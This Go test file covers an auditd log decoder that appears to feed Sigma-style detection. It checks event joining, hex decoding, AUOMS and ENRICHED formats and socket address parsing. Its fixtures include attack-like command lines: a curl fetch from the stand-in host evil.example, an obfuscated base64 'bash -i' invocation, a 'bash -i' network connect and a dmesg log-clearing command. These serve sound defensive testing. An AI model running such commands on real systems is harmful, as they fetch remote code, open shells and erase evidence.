package auditd

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/decode/internal/dectest"
	"github.com/vigil-sec/vigil/event"
)

func decodeRec(t *testing.T, rec []byte) *event.Event {
	t.Helper()
	var ev event.Event
	ev.Fields.Bind(event.NewOpenDict())
	if err := New().Decode(rec, &ev); err != nil {
		t.Fatalf("%q: %v", rec, err)
	}
	return &ev
}

func want(t *testing.T, ev *event.Event, kv ...string) {
	t.Helper()
	for i := 0; i < len(kv); i += 2 {
		if got, _ := ev.Get(kv[i]); got != kv[i+1] {
			t.Errorf("%s = %q, want %q", kv[i], got, kv[i+1])
		}
	}
}

// TestJoinedEvent: the records of one serial are one event, with every
// record's fields (a field of several records holds each value), hex
// values decoded, and the process creation Sigma reads.
func TestJoinedEvent(t *testing.T) {
	recs := dectest.Frame(t, "audit.log", Format)
	if len(recs) != 4 {
		t.Fatalf("%d events, want 4 (by serial)", len(recs))
	}
	ev := decodeRec(t, recs[0])
	if ev.Logsource != (event.Logsource{Product: "linux", Category: "process_creation", Service: "auditd"}) {
		t.Errorf("logsource %+v", ev.Logsource)
	}
	if !ev.Time.Equal(time.Unix(1700000000, 123e6)) {
		t.Errorf("time %v", ev.Time)
	}
	if got := dectest.Values(ev, "type"); !reflect.DeepEqual(got, []string{"SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"}) {
		t.Errorf("type = %q", got)
	}
	if got := dectest.Values(ev, "name"); !reflect.DeepEqual(got, []string{"/usr/bin/curl", "/lib64/ld-linux-x86-64.so.2"}) {
		t.Errorf("name = %q", got)
	}
	if got := dectest.Values(ev, "a2"); !reflect.DeepEqual(got, []string{"55d0c4", "http://evil.example/x sh."}) {
		t.Errorf("a2 = %q (the SYSCALL's pointer, then EXECVE's argument, decoded)", got)
	}
	want(t, ev, "SYSCALL", "execve", "syscall", "59", "exe", "/usr/bin/curl", "comm", "curl", "key", "susp_curl",
		"cwd", "/tmp", "nametype", "NORMAL", "serial", "4242", "a0", "55d0c2",
		"proctitle", "curl -s http://evil.example/x sh.",
		"Image", "/usr/bin/curl", "CommandLine", "curl -s http://evil.example/x sh.", "CurrentDirectory", "/tmp",
		"ProcessId", "1234", "ParentProcessId", "1000",
		"event.action", "execve", "event.outcome", "success", "process.pid", "1234", "process.name", "curl",
		"process.command_line", "curl -s http://evil.example/x sh.", "event.code", "SYSCALL")

	// A syscall event without EXECVE: auditd only; the syscall named.
	ev = decodeRec(t, recs[1])
	if ev.Logsource != (event.Logsource{Product: "linux", Service: "auditd"}) {
		t.Errorf("logsource %+v", ev.Logsource)
	}
	want(t, ev, "type", "SYSCALL", "SYSCALL", "syslog", "a0", "4", "node", "web01", "host.name", "web01", "key", "clear_dmesg_logs", "proctitle", "dmesg -c")

	// User-space records: msg='…' holds the pairs.
	ev = decodeRec(t, recs[2])
	want(t, ev, "type", "USER_LOGIN", "op", "login", "acct", "root", "user.name", "root", "addr", "203.0.113.9",
		"source.ip", "203.0.113.9", "event.outcome", "failure", "event.action", "login", "terminal", "ssh")
	ev = decodeRec(t, recs[3])
	want(t, ev, "type", "ADD_USER", "op", "adding user", "id", "1001", "exe", "/usr/sbin/useradd", "event.outcome", "success")
}

// TestEnriched: log_format=ENRICHED's names after 0x1d are fields; its
// SYSCALL is the name.
func TestEnriched(t *testing.T) {
	recs := dectest.Frame(t, "enriched.log", Format)
	if len(recs) != 1 {
		t.Fatalf("%d events", len(recs))
	}
	ev := decodeRec(t, recs[0])
	want(t, ev, "SYSCALL", "execve", "AUID", "alice", "UID", "alice", "key", "(null)", "User", "alice", "user.name", "alice",
		"CommandLine", "id", "Image", "/usr/bin/id")
}

// TestCarried: a record behind audisp-syslog's header, and AUOMS's form.
func TestCarried(t *testing.T) {
	ev := decodeRec(t, []byte(`Mar  3 10:00:00 web01 audispd: node=web01 type=EXECVE msg=audit(1700000000.123:4242): argc=2 a0="ls" a1="-la"`))
	want(t, ev, "type", "EXECVE", "a0", "ls", "a1", "-la", "CommandLine", "ls -la", "host.name", "web01")
	auoms := `type=AUOMS_EXECVE audit(1652292621.990:84143): SchemaVersion="1" auoms_version=2.5.2.0 node=UBUNTU5 arch=x86_64 syscall=execve syscall_r=59 success=yes exit=0 a0=7fcd3bdfb8e0 ppid=1340 pid=17790 user=tomcat uid=1001 tty=(none) ses="-1" comm="bash" exe="/bin/bash" key=auoms,delete cwd="/" name="/bin/bash" path_name=["/bin/bash","/lib64/ld-linux-x86-64.so.2"] argc=3 cmdline="bash -c "{echo,YmFzaA==}|{base64,-d}|{bash,-i}"" proctitle=/usr/lib/jvm/java -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Dx redactors= containerid=`
	ev = decodeRec(t, []byte(auoms))
	if ev.Logsource.Category != "process_creation" {
		t.Errorf("logsource %+v", ev.Logsource)
	}
	want(t, ev, "type", "AUOMS_EXECVE", "SYSCALL", "execve", "host.name", "UBUNTU5", "Image", "/bin/bash",
		"CommandLine", `bash -c "{echo,YmFzaA==}|{base64,-d}|{bash,-i}"`, "User", "tomcat", "CurrentDirectory", "/",
		"proctitle", "/usr/lib/jvm/java -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Dx",
		"redactors", "", "key", "auoms,delete", "ParentProcessId", "1340")
}

// TestSockaddr: a SOCKADDR record's address, read as ENRICHED names it,
// is where a connect went and who an accept took.
func TestSockaddr(t *testing.T) {
	ev := decodeRec(t, []byte("type=SYSCALL msg=audit(1700000400.000:91): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=10 pid=12 auid=1001 uid=1001 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"network_connect\"\n"+
		"type=SOCKADDR msg=audit(1700000400.000:91): saddr=020001BBC0A802060000000000000000\n"+
		"type=PROCTITLE msg=audit(1700000400.000:91): proctitle=62617368002D69"))
	want(t, ev, "SYSCALL", "connect", "saddr_fam", "inet", "laddr", "192.168.2.6", "lport", "443",
		"destination.ip", "192.168.2.6", "destination.port", "443", "proctitle", "bash -i")
	ev = decodeRec(t, []byte("type=SYSCALL msg=audit(1700000400.000:92): arch=c000003e syscall=43 success=yes exit=4 a0=3 items=0 ppid=1 pid=800 comm=\"sshd\" exe=\"/usr/sbin/sshd\" key=(null)\n"+
		"type=SOCKADDR msg=audit(1700000400.000:92): saddr=0A0000160000000020010DB800000000000000000000000700000000"))
	want(t, ev, "SYSCALL", "accept", "saddr_fam", "inet6", "laddr", "2001:db8::7", "source.ip", "2001:db8::7", "source.port", "22", "destination.ip", "")
	ev = decodeRec(t, []byte("type=SOCKADDR msg=audit(1700000400.000:93): saddr=01002F72756E2F646F636B65722E736F636B00"))
	want(t, ev, "saddr_fam", "local", "path", "/run/docker.sock")
}

func TestJoiner(t *testing.T) {
	d := New().(*Decoder)
	first := []byte(`type=SYSCALL msg=audit(1.000:5): arch=c000003e`)
	for _, c := range []struct {
		line string
		want bool
	}{
		{`type=EXECVE msg=audit(1.000:5): argc=1 a0="x"`, true},
		{`type=EXECVE msg=audit(1.000:6): argc=1 a0="x"`, false},
		{`node=h type=PATH msg=audit(1.000:5): item=0`, true},
		{`something else`, false},
	} {
		if got := d.Continues(first, []byte(c.line)); got != c.want {
			t.Errorf("%q continues: %v, want %v", c.line, got, c.want)
		}
	}
}

func TestBad(t *testing.T) {
	dectest.CheckBad(t, Format, New, []dectest.Bad{
		{Rec: "", Reason: "empty record"},
		{Rec: "arch=c000003e syscall=59", Reason: "no type="},
		{Rec: "node=h", Reason: "no type="},
		{Rec: "type=SYSCALL arch=x", Reason: "no msg=audit", Offset: 13},
		{Rec: "type=SYSCALL msg=audit(1.0:1 x", Reason: "not closed", Offset: 17},
		{Rec: "type=SYSCALL msg=audit(abc:1): x=1", Reason: "time stamp", Offset: 23},
		{Rec: "type=SYSCALL msg=audit(1.000): x=1", Reason: "without a serial", Offset: 23},
		{Rec: "type=SYSCALL msg=audit(1.000:1): x=1\ntype=EXECVE msg=audit(1.000:2): a0=\"x\"", Reason: "another event", Offset: 37},
		{Rec: "type=SYSCALL msg=audit(1.000:1): x=1\ngarbage", Reason: "no type=", Offset: 37},
	})
}

func TestSniff(t *testing.T) {
	for _, c := range []struct {
		rec  string
		want bool
	}{
		{`type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e`, true},
		{`node=h type=PATH msg=audit(1.000:5): item=0`, true},
		{`Mar  3 10:00:00 web01 audispd: node=web01 type=EXECVE msg=audit(1700000000.123:4242): argc=2`, true},
		{`type=foo`, false},
		{`Mar  3 10:00:00 web01 sshd[1]: Accepted password for x from 1.2.3.4 port 1 ssh2`, false},
	} {
		if got := Sniff([]byte(c.rec)) > 50; got != c.want {
			t.Errorf("%q sniffed %v", c.rec, got)
		}
	}
}

func TestRegistered(t *testing.T) { dectest.Registered[*Decoder](t, Format) }

func FuzzDecode(f *testing.F) {
	for _, name := range []string{"audit.log", "enriched.log"} {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
		for _, l := range strings.Split(string(b), "\n") {
			f.Add([]byte(l))
		}
	}
	f.Add([]byte(`type=X audit(1.2:3): cmdline="a "b" c" k='x`))
	dectest.Fuzz(f, New(), Sniff, time.Time{}, func(t *testing.T, ev *event.Event) {
		if ev.Logsource.Service != "auditd" {
			t.Fatalf("logsource %+v", ev.Logsource)
		}
	})
}
